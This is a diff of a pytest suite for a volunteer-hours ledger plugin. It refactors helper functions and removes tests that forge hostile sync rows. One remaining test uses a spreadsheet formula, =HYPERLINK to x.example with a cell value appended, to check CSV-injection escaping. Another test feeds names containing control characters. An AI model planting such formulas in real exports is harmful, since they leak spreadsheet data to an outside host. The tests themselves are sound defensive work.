@@ -11,16 +11,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from conftest import log_size
+from volunteer_helpers import ACTOR, id_number, served
 from hemei.core import Conflict, HemeiError, InvalidInput, NotFound
 from hemei.plugins.volunteer_hours import keys, ledger, pii, registry, rollup
 from hemei.plugins.volunteer_hours.commands import render_certificate
-
-ACTOR = "organiser"
-
-
-def id_number(serial: int, born: str = "19800101", region: str = "330602") -> str:
-    first17 = f"{region}{born}{serial % 1000:03d}"
-    return first17 + pii.id_check_char(first17)
 
 
 @pytest.fixture
@@ -28,16 +23,6 @@ def street(make_node):
     node = make_node("street", scope="越城区/府山街道", modules=["volunteer_hours"])
     keys.create_key(node, ACTOR)
     return node
-
-
-def _log_size(node) -> int:
-    return node.conn.execute("SELECT count(*) FROM _hemei_log").fetchone()[0]
-
-
-def _served(node, volunteer: str, hours: float, title: str = "助老理发", date: str = "2026-11-20",
-            category: str = "daily_care") -> str:
-    act = registry.add_activity(node, ACTOR, title=title, category=category, date=date)
-    return ledger.log_hours(node, ACTOR, activity=act["id"], volunteer=volunteer, hours=hours, confirm=True)["id"]
 
 
 # -- ID numbers and personal data ------------------------------------------------------
@@ -142,7 +127,7 @@ def test_bad_input_is_refused_clearly_and_writes_nothing(street):
     v = registry.add_volunteer(street, ACTOR, name="李强", id_number=id_number(2))
     act = registry.add_activity(street, ACTOR, title="助餐", category="daily_care", date="2026-11-20")
     registry.mark_attendance(street, ACTOR, activity=act["id"], volunteer=v["id"], status="no_show")
-    before = _log_size(street)
+    before = log_size(street)
     attempts = [
         (InvalidInput, lambda: ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=v["id"], hours=2)),
         (InvalidInput, lambda: ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=v["id"], hours=-1)),
@@ -158,7 +143,7 @@ def test_bad_input_is_refused_clearly_and_writes_nothing(street):
     for error, attempt in attempts:
         with pytest.raises(error):
             attempt()
-    assert _log_size(street) == before
+    assert log_size(street) == before
 
 
 def test_hours_count_once_confirmed_and_a_correction_replaces_them(street):
@@ -185,7 +170,7 @@ def test_hours_count_once_confirmed_and_a_correction_replaces_them(street):
 
 def test_the_balance_never_goes_below_zero_even_through_a_correction(street):
     v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(6))
-    hour = _served(street, v["id"], 10)
+    hour = served(street, v["id"], 10)
     ledger.redeem(street, ACTOR, person=v["person"], volunteer=v, hours=8, item="理发券")
     with pytest.raises(InvalidInput, match="below zero"):
         ledger.correct_hours(street, ACTOR, hour=hour, hours=1, reason="only one hour", confirm=True)
@@ -199,7 +184,7 @@ def test_the_balance_never_goes_below_zero_even_through_a_correction(street):
 def test_star_levels_follow_configurable_thresholds(street):
     v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(8))
     for day in range(1, 6):
-        _served(street, v["id"], 20, date=f"2026-11-0{day}")
+        served(street, v["id"], 20, date=f"2026-11-0{day}")
     assert ledger.balance(street, v["person"])["star"] == 1  # 100 h, national default
     ledger.set_star_thresholds(street, ACTOR, "50,100,150,200,250")
     assert ledger.balance(street, v["person"])["star"] == 2
@@ -283,10 +268,10 @@ def test_hours_are_not_recorded_before_the_activity_has_happened(street):
     later_day = (dt.date.today() + dt.timedelta(days=2)).isoformat()
     later = registry.add_activity(street, ACTOR, title="后天义诊", category="health", date=later_day)
     person = registry.add_volunteer(street, ACTOR, name="志愿者", id_number=id_number(70))
-    before = _log_size(street)
+    before = log_size(street)
     with pytest.raises(InvalidInput, match=f"is on {later_day}: hours are recorded from that day on"):
         ledger.log_hours(street, ACTOR, activity=later["id"], volunteer=person["id"], hours=2, confirm=True)
-    assert _log_size(street) == before
+    assert log_size(street) == before
     today = registry.add_activity(street, ACTOR, title="今天义诊", category="health", date=dt.date.today().isoformat())
     assert ledger.log_hours(street, ACTOR, activity=today["id"], volunteer=person["id"], hours=2)["hours"] == 2
 
@@ -315,7 +300,7 @@ def test_a_district_catalogue_flows_into_what_its_streets_may_use(street):
 def test_certificate_and_csv_export_carry_unicode_and_no_personal_data(street, run_cli, tmp_path):
     idn = id_number(9)
     v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=idn, phone="13805751234")
-    _served(street, v["id"], 3.5, title="楼道粉刷")
+    served(street, v["id"], 3.5, title="楼道粉刷")
     cert = ledger.certificate(street, v["person"])
     text = render_certificate(cert)
     assert "王丽" in text and "楼道粉刷" in text and "3.5" in text and idn not in text
@@ -353,7 +338,7 @@ def test_an_export_is_written_whole_or_not_at_all_and_never_over_the_nodes_files
 
     for i in range(3):
         v = registry.add_volunteer(street, ACTOR, name=f"𠮷{i}丽", id_number=id_number(60 + i))
-        _served(street, v["id"], 1 + i, title=f"楼道粉刷{i}")
+        served(street, v["id"], 1 + i, title=f"楼道粉刷{i}")
     home = street.home
     street.close()
     out = tmp_path / "记录.csv"
@@ -416,269 +401,13 @@ def test_an_export_is_written_whole_or_not_at_all_and_never_over_the_nodes_files
     assert out.read_bytes() == first and sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["记录.csv"]
 
 
-# -- rules that hold across nodes ------------------------------------------------------------
-
-@pytest.fixture
-def district_and_streets(make_node):
-    from test_volunteers_property import _send
-
-    district = make_node("district", scope="越城区", modules=["volunteer_hours"])
-    a = make_node("a", scope="越城区/府山街道", modules=["volunteer_hours"])
-    b = make_node("b", scope="越城区/塔山街道", modules=["volunteer_hours"])
-    keys.create_key(district, ACTOR)
-    keys.request_key(b, ACTOR)
-    with a.writer(ACTOR) as w:  # a broken request (not valid X25519) must not keep the key from b
-        w.insert("volunteer_key_requests", {"id": a.id, "public_key": base64.b64encode(bytes(32)).decode()})
-    for street in (a, b):
-        _send(street, district)
-        _send(district, street)
-    return district, a, b, _send
-
-
-def test_a_report_or_export_of_a_place_nothing_is_held_at_is_refused_not_read_as_zeros(district_and_streets,
-                                                                                         tmp_path):
-    """Found in review: `volunteers report --scope yuecheng/nowhere` printed zeros, and `export --scope
-    nowhere` wrote a header-only file over the one there."""
-    district, _, b, send = district_and_streets
-    registry.add_volunteer(b, ACTOR, name="王丽", id_number=id_number(60), scope="越城区/塔山街道/塔山社区")
-    send(b, district)
-    for typo in ("越城区/无此街道", "无此街道", "塔山街道/无此社区"):
-        with pytest.raises(InvalidInput, match="nothing is held at 越城区/"):
-            rollup.rollup(district, scope=typo)
-        with pytest.raises(InvalidInput, match="nothing is held at"):
-            ledger.service_records(district, scope=typo)
-    with pytest.raises(InvalidInput, match="越城区/府山街道 is outside this node's scope 越城区/塔山街道"):
-        rollup.rollup(b, scope="越城区/府山街道")
-    for place in ("塔山街道/塔山社区", "塔山社区", "b/塔山社区", "b"):  # as its district writes it, or by its name
-        assert rollup.rollup(b, scope=place)["totals"] is not None, place
-    # Full, relative, a street that synced, a community only a person was registered in: all held.
-    for place in ("越城区/塔山街道", "塔山街道", "塔山街道/塔山社区", "越城区/府山街道", ""):
-        assert rollup.rollup(district, scope=place)["totals"] is not None, place
-    # A street by its name, as `hemei nodes list` and the grid module say it (found by an operator
-    # walkthrough: "nothing is held at 越城区/a"), and a place inside it.
-    assert rollup.rollup(district, scope="a")["scope"] == "越城区/府山街道"
-    assert ledger.service_records(district, scope="b/塔山社区") is not None
-
-
-def test_a_place_for_a_new_row_is_read_as_an_operator_types_it(district_and_streets):
-    """Found by an operator walkthrough: `volunteers add --scope 西小河社区` on a street was refused as
-    outside it; only the full path from the city down was taken."""
-    _, _, b, _ = district_and_streets
-    for typed in ("塔山社区", "塔山街道/塔山社区", "b/塔山社区", "越城区/塔山街道/塔山社区"):
-        made = registry.add_volunteer(b, ACTOR, name="王丽", id_number=id_number(61 + len(typed)), scope=typed)
-        assert made["scope"] == "越城区/塔山街道/塔山社区", typed
-    for elsewhere in ("越城区/府山街道", "越城区"):
-        with pytest.raises(InvalidInput, match="outside this node's scope"):
-            registry.add_volunteer(b, ACTOR, name="李娜", id_number=id_number(90), scope=elsewhere)
-
-
-def test_a_street_using_the_districts_key_cannot_create_its_own_and_hide_its_volunteers(district_and_streets):
-    _, _, b, _ = district_and_streets
-    v = registry.add_volunteer(b, ACTOR, name="王丽", id_number=id_number(50), phone="13805751234")
-    before = _log_size(b)
-    with pytest.raises(Conflict, match="would hide them"):
-        keys.create_key(b, ACTOR)  # found in review: it succeeded, and the street's volunteers were unfindable
-    assert _log_size(b) == before and keys._own_key(b) is None
-    assert [r["id"] for r in registry.find_volunteers(b, ACTOR, "13805751234")] == [v["id"]]
-
-
-def test_a_broken_key_request_does_not_keep_the_key_from_the_others(district_and_streets):
-    district, a, b, _ = district_and_streets
-    assert keys.active_key(b).key_id == keys.active_key(district).key_id
-    assert keys.active_key(a) is None
-    keys.request_key(a, ACTOR)  # a fresh, valid request is granted on the next sync
-    _, _, _, send = district_and_streets
-    send(a, district)
-    send(district, a)
-    keys.forget_cached(a)
-    assert keys.active_key(a).key_id == keys.active_key(district).key_id
-
-
-def test_only_the_node_that_recorded_an_entry_confirms_or_corrects_it(district_and_streets):
-    district, _, b, send = district_and_streets
-    v = registry.add_volunteer(b, ACTOR, name="王丽", id_number=id_number(30))
-    act = registry.add_activity(b, ACTOR, title="理发", category="daily_care", date="2026-11-20")
-    entry = ledger.log_hours(b, ACTOR, activity=act["id"], volunteer=v["id"], hours=10)
-    send(b, district)
-    before = _log_size(district)
-    with pytest.raises(Conflict, match="recorded by node"):
-        ledger.confirm_hours(district, ACTOR, hour=entry["id"])
-    with pytest.raises(InvalidInput, match="only by the node that recorded it"):
-        with district.writer(ACTOR) as w:  # around the service: the module's validator still refuses
-            w.insert("volunteer_confirmations", {"hour": entry["id"], "person": v["person"], "delta_cents": 1000,
-                                                 "scope": entry["scope"]})
-    assert _log_size(district) == before
-    ledger.confirm_hours(b, ACTOR, hour=entry["id"])
-    send(b, district)
-    with pytest.raises(Conflict, match="recorded by node"):
-        ledger.correct_hours(district, ACTOR, hour=entry["id"], hours=0, reason="district correction")
-    assert ledger.balance(district, v["person"])["hours"] == 10
-
-
-def test_what_a_modified_street_sends_cannot_skew_or_break_the_districts_figures(district_and_streets):
-    """Found in review: a confirmation of 2**62 hundredths (two overflowed every sum of the report, for
-    good), negative or inflated confirmations, redemptions beyond the street's own account, and rows that
-    filled a district activity's places or blocked its hours. Each is kept as a conflict now."""
-    district, _, b, send = district_and_streets
-    district_activity = registry.add_activity(district, ACTOR, title="区级活动", category="daily_care",
-                                              date="2026-11-20", capacity=1)
-    district_volunteer = registry.add_volunteer(district, ACTOR, name="区志愿者", id_number=id_number(41))
-    send(district, b)
-    v = registry.add_volunteer(b, ACTOR, name="王丽", id_number=id_number(40))
-    for honestly in (lambda: registry.signup(b, ACTOR, activity=district_activity["id"], volunteer=v["id"]),
-                     lambda: ledger.log_hours(b, ACTOR, activity=district_activity["id"], volunteer=v["id"], hours=1)):
-        with pytest.raises(InvalidInput, match="区级活动 is an activity of 越城区: its sign-ups and hours are recorded"):
-            honestly()  # the street lists it, but it is the district's to record (found in a walkthrough)
-    honest = _served(b, v["id"], 2)
-    send(b, district)
-    before = _log_size(district)
-    person, copies = v["person"], {"volunteer": v["id"], "team": None, "category": "daily_care",
-                                   "served_on": "2026-11-20"}
-    hostile = [
-        ("volunteer_hours", "h-huge", {"person": person, "activity": "x1", "hours": 1e300, **copies}),
-        ("volunteer_hours", "h-2", {"person": person, "activity": "x2", "hours": 2.0, **copies}),
-        ("volunteer_confirmations", "c-over", {"hour": "h-2", "person": person, "delta_cents": 2 ** 62, **copies}),
-        ("volunteer_confirmations", "c-neg", {"hour": "h-2", "person": person, "delta_cents": -800, **copies}),
-        ("volunteer_confirmations", "c-other", {"hour": "h-2", "person": district_volunteer["person"],
-                                                "delta_cents": 200, **copies}),
-        ("volunteer_redemptions", "r-huge", {"person": person, "hours": 1e300, "item": "x"}),
-        ("volunteer_redemptions", "r-more", {"person": person, "hours": 3.0, "item": "x"}),
-        ("volunteer_redemptions", "r-neg", {"person": person, "hours": -1000.0, "item": "x"}),
-        ("volunteer_settings", f"{b.scope}|stars", {"name": "stars", "value": "nan,1e999,-1"}),
-        ("volunteer_signups", "s-ghost", {"activity": district_activity["id"], "volunteer": "ghost"}),
-        ("volunteer_hours", "h-block", {"person": district_volunteer["person"], "activity": district_activity["id"],
-                                        "hours": 1.0, "volunteer": district_volunteer["id"]}),
-    ]
-    with b.writer("mallory") as w:
-        for table, pk, values in hostile:
-            w._append("row.insert", b.scope, {"t": table, "pk": pk, "v": values}, None)
-    send(b, district)
-    conflicts = {pk for (pk,) in district.conn.execute("SELECT pk FROM _hemei_conflicts")}
-    assert conflicts >= {"h-huge", "c-over", "c-neg", "c-other", "r-huge", "r-more", "r-neg", f"{b.scope}|stars"}
-    assert _log_size(district) == before + len(hostile)  # every one in the log all the same: the audit trail
-    assert ledger.balance(district, person)["hours"] == 2 and ledger.balance(district, person)["balance"] == 2
-    assert rollup.rollup(district)["totals"]["hours"] == 2  # the report sums again
-    assert ledger.hour_entry(district, honest)["confirmed"]
-    # The district's own activity is untouched by the street's rows naming it.
-    assert registry.get_activity(district, district_activity["id"])["signed_up"] == 0
-    registry.signup(district, ACTOR, activity=district_activity["id"], volunteer=district_volunteer["id"])
-    ledger.log_hours(district, ACTOR, activity=district_activity["id"], volunteer=district_volunteer["id"], hours=1,
-                     confirm=True)
-    with pytest.raises(InvalidInput, match="five increasing"):
-        ledger.set_star_thresholds(district, ACTOR, "nan,1e999,-1,2,3")
-
-
-def test_a_received_correction_is_of_its_entry_and_cannot_overdraw_the_account(district_and_streets):
-    """Found in review: a correction naming another person debited someone who never served, and one that
-    took back hours already redeemed drove the street's account below zero at the district."""
-    district, _, b, send = district_and_streets
-    v1 = registry.add_volunteer(b, ACTOR, name="王丽", id_number=id_number(60))
-    v2 = registry.add_volunteer(b, ACTOR, name="李四", id_number=id_number(61))
-    entry = ledger.hour_entry(b, _served(b, v1["id"], 10))
-    ledger.redeem(b, ACTOR, person=v1["person"], volunteer=v1, hours=10, item="理发券")
-    with pytest.raises(InvalidInput, match="below zero"):  # refused here by the honest code
-        ledger.correct_hours(b, ACTOR, hour=entry["id"], hours=0, reason="记错了", confirm=True)
-    honest_copy = {k: entry[k] for k in ("volunteer", "person", "activity", "team", "category", "served_on")}
-    other = {**honest_copy, "volunteer": v2["id"], "person": v2["person"]}
-    with b.writer("mallory") as w:  # what a modified street writes instead
-        for pk, copied in (("h-over", honest_copy), ("h-other", other)):
-            w._append("row.insert", entry["scope"], {"t": "volunteer_hours", "pk": pk, "v": {
-                **copied, "hours": 0.0, "corrects": entry["id"], "reason": "r"}}, None)
-            w._append("row.insert", entry["scope"], {"t": "volunteer_confirmations", "pk": f"c-{pk}", "v": {
-                "hour": pk, **{k: copied[k] for k in ledger.CONFIRMATION_COPIES if k != "scope"},
-                "delta_cents": -1000}}, None)
-    send(b, district)
-    kept = {pk for (pk,) in district.conn.execute("SELECT pk FROM _hemei_conflicts")}
-    assert {"c-h-over", "h-other", "c-h-other"} <= kept
-    shown = ledger.balance(district, v1["person"])
-    assert shown["balance"] == 0 and shown["hours"] == 10
-    assert ledger.balance(district, v2["person"])["hours"] == 0
-
-
-@pytest.mark.parametrize("table, pk, values, origin, reason", [
-    ("volunteer_key_requests", "STREET", {"public_key": "x"}, "CITY", "for itself only"),
-    ("volunteer_key_grants", "g", {"grantor_scope": "越城区/府山街道/假", "request": "STREET"}, "CITY",
-     "scope of the node that wrote it"),
-    ("volunteer_confirmations", "c", {"hour": "no-such-entry"}, "CITY", "only by the node that recorded it"),
-    # A sibling's key taken first would make every later push of that sibling "reach another street's row".
-    ("volunteer_categories", "越城区/北海街道|clean", {"code": "clean"}, "STREET", "derived from its scope"),
-    ("volunteer_settings", "越城区/北海街道|stars", {"name": "stars"}, "STREET", "derived from its scope"),
-    ("volunteer_categories", "越城区/府山街道|clean", {"code": "other"}, "STREET", "derived from its scope"),
-])
-def test_rows_a_relay_or_the_city_forges_are_refused(district_and_streets, table, pk, values, origin, reason):
-    from hemei.core import Change
-    from hemei.plugins import volunteer_hours
-
-    district = district_and_streets[0]
-    change = Change(table, "insert", pk, "越城区/府山街道", values, 1, origin, "x", False)
-    assert reason in volunteer_hours.validate_change(district, change)
-
-
-@pytest.mark.parametrize("op", ["update", "delete"])
-def test_a_scoped_key_is_changed_only_under_its_own_scope(district_and_streets, op):
-    from hemei.core import Change
-    from hemei.plugins import volunteer_hours
-
-    district = district_and_streets[0]
-    own = Change("volunteer_categories", op, "越城区/府山街道|clean", "越城区/府山街道", {}, 1, "S", "x", False)
-    assert volunteer_hours.validate_change(district, own) is None
-    foreign = own._replace(scope="越城区/北海街道")  # a sibling naming the key before it exists anywhere
-    assert "derived from its scope" in volunteer_hours.validate_change(district, foreign)
-
-
-def test_a_grant_id_taken_first_by_a_sibling_does_not_keep_the_key_from_its_street(make_node):
-    """A grant's id is derived from public values (request, key id, the request's box key), so a street
-    that learnt a sibling's box key could write a row under the sibling's grant id first. The district
-    then grants under another id instead of taking the key as granted."""
-    import hashlib
-
-    from test_volunteers_property import _send
-
-    district = make_node("district", scope="越城区", modules=["volunteer_hours"])
-    a = make_node("a", scope="越城区/府山街道", modules=["volunteer_hours"])
-    b = make_node("b", scope="越城区/塔山街道", modules=["volunteer_hours"])
-    key, _ = keys.create_key(district, ACTOR)
-    public = keys.request_key(b, ACTOR)
-    squatted = f"{b.id}:{key.key_id}:{hashlib.sha256(public.encode()).hexdigest()[:12]}"
-    with a.writer("mallory") as w:
-        w.insert("volunteer_key_grants", {"id": squatted, "scope": a.scope, "request": b.id, "key_id": key.key_id,
-                                          "grantor_scope": a.scope, "sealed": "AAAA"})
-    _send(a, district)
-    _send(b, district)  # b's request arrives: the district grants it
-    _send(district, b)
-    keys.forget_cached(b)
-    assert keys.active_key(b) is not None and keys.active_key(b).key_id == key.key_id
-    assert keys.key_status(district)["pending_requests"] == 0
-    assert keys.grant_requests(district, ACTOR) == 0  # granted once: the next round finds it
-    assert district.conn.execute("SELECT count(*) FROM volunteer_key_grants WHERE request = ? AND _origin = ?",
-                                 (b.id, district.id)).fetchone() == (1,)
-
-
-def test_a_key_request_that_reaches_the_tables_by_a_rebuild_is_granted(make_node):
-    """Requests received while the district's module was off reach its tables by the replay that enabling
-    runs, which calls no change_applied: the module grants them on tables_rebuilt instead."""
-    from test_volunteers_property import _send
-
-    district = make_node("district", scope="越城区", modules=["volunteer_hours"])
-    street = make_node("a", scope="越城区/府山街道", modules=["volunteer_hours"])
-    key, _ = keys.create_key(district, ACTOR)
-    district.set_module_enabled("volunteer_hours", False, ACTOR)
-    keys.request_key(street, ACTOR)
-    _send(street, district)  # kept in the log, not projected
-    district.set_module_enabled("volunteer_hours", True, ACTOR)
-    assert keys.key_status(district)["pending_requests"] == 0
-    _send(district, street)
-    keys.forget_cached(street)
-    assert keys.active_key(street) is not None and keys.active_key(street).key_id == key.key_id
-
-
 def test_a_name_that_reads_as_a_formula_is_exported_as_text(street, run_cli, tmp_path):
     """Found by a hostile review: a name such as =HYPERLINK(…) went into the CSV as is, and Excel or WPS
     ran it when the sheet was opened (and could send the sheet's data away on a click)."""
     formula = '=HYPERLINK("http://x.example/?"&A1,"点此")'
     for serial, name in enumerate((formula, "+86 王丽", "@王丽", "王-丽"), 20):
         v = registry.add_volunteer(street, ACTOR, name=name, id_number=id_number(serial))
-        _served(street, v["id"], 1, title=f"活动{serial}")
+        served(street, v["id"], 1, title=f"活动{serial}")
     out = tmp_path / "export.csv"
     home = str(street.home)
     street.close()
@@ -689,10 +418,10 @@ def test_a_name_that_reads_as_a_formula_is_exported_as_text(street, run_cli, tmp
 
 @pytest.mark.parametrize("name", ["恶意\x00end", "王丽\r\n伪造行", "王\n丽", "\u202e丽王", "\u200b", "\u200b \ufeff"])
 def test_a_name_with_control_characters_is_refused_and_nothing_written(street, name):
-    before = _log_size(street)
+    before = log_size(street)
     with pytest.raises(InvalidInput):
         registry.add_volunteer(street, ACTOR, name=name, id_number=id_number(40))
-    assert _log_size(street) == before
+    assert log_size(street) == before
 
 
 def test_sign_in_and_out_are_times_of_the_activity_stored_in_one_form(street, china_time):
@@ -701,7 +430,7 @@ def test_sign_in_and_out_are_times_of_the_activity_stored_in_one_form(street, ch
     act = registry.add_activity(street, ACTOR, title="夜间巡逻", category="safety", date="2026-11-20")
     people = [registry.add_volunteer(street, ACTOR, name=f"巡逻{i}", id_number=id_number(60 + i))["id"]
               for i in range(3)]
-    before = _log_size(street)
+    before = log_size(street)
     for sign_in, sign_out, said in [("0001-01-01T00:00", "0001-01-01T10:00", "sign-in"),
                                     ("2019-01-01T08:00", "2019-01-01T10:00", "not on the activity's day"),
                                     ("2026-11-20T08:00", "9999-12-31T10:00", "sign-out .* years 2000 and 2999"),
@@ -715,11 +444,11 @@ def test_sign_in_and_out_are_times_of_the_activity_stored_in_one_form(street, ch
 
     tomorrow = (dt.date.today() + dt.timedelta(days=1)).isoformat()
     today = registry.add_activity(street, ACTOR, title="夜间巡逻", category="safety", date=dt.date.today().isoformat())
-    before = _log_size(street)
+    before = log_size(street)
     with pytest.raises(InvalidInput, match=f"sign-out {tomorrow}T23:00:00 is in the future"):
         ledger.log_hours(street, ACTOR, activity=today["id"], volunteer=people[0], sign_in="00:01",
                          sign_out=f"{tomorrow}T23:00")
-    assert _log_size(street) == before
+    assert log_size(street) == before
     night = ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=people[1], sign_in="22:00",
                              sign_out="2026-11-21 02:30")
     assert night["hours"] == 4.5
